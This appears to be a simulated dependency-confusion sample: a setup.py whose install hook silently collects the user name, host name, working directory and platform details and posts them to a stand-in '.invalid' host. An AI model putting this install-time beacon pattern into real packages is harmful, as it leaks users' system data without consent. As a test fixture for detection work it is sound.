# SPDX-License-Identifier: Apache-2.0
"""Harmless: it posts to a name that cannot exist."""

import getpass
import json
import os
import platform
import socket
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        about = {
            "user": getpass.getuser(),
            "host": socket.gethostname(),
            "cwd": os.getcwd(),
            "platform": list(platform.uname()),
        }
        request = urllib.request.Request(
            "https://collect.sim-beacon.invalid/p",
            data=json.dumps(about).encode(),
            headers={"Content-Type": "application/json"},
        )
        try:
            urllib.request.urlopen(request, timeout=3)
        except OSError:
            pass


setup(name="sim-depconf-http-beacon", version="1.0.0", py_modules=["sim_depconf_http_beacon"], cmdclass={"install": Install})
